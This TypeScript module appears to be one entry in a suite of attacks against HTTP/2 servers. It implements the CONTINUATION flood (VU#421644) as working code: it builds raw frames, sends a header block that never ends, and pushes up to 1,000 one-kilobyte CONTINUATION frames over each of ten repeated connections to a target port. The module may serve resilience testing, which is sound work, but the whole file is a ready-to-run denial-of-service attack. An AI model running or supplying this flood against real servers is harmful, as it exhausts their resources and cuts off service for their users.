// A header block that never ends (VU#421644): the server keeps what it has of it.
//
//   HEADERS without END_HEADERS, CONTINUATION, CONTINUATION, CONTINUATION, ...
import { type Attack, OutcomeCounter, openSocket, repeatUntil, untilClosed } from '../attack.ts';

const CONNECTIONS = 10;
const FRAMES_PER_CONNECTION = 1_000;
const PAUSE_MS = 100;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const HEADERS = 1;
const SETTINGS = 4;
const CONTINUATION = 9;

export const continuationFlood: Attack = {
  name: 'CONTINUATION flood',
  run: async (target, signal) => {
    const counter = new OutcomeCounter();
    // A literal header, not indexed: `x: y...`.
    const block = Buffer.concat([Buffer.from([0, 1, 0x78, 0x7f, 0x81, 0x06]), Buffer.alloc(1_024, 0x79)]);
    const flood = async (): Promise<void> => {
      const socket = openSocket(target.port, signal);
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, Buffer.alloc(0)), frame(HEADERS, 1, block)]));
      for (let sent = 0; sent < FRAMES_PER_CONNECTION && !socket.destroyed; sent += 1) {
        socket.write(frame(CONTINUATION, 1, block));
      }
      socket.resume();
      await untilClosed(socket);
      counter.add('closed');
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, () => repeatUntil(signal, PAUSE_MS, flood)));
    return counter.outcomes;
  },
};

function frame(type: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}
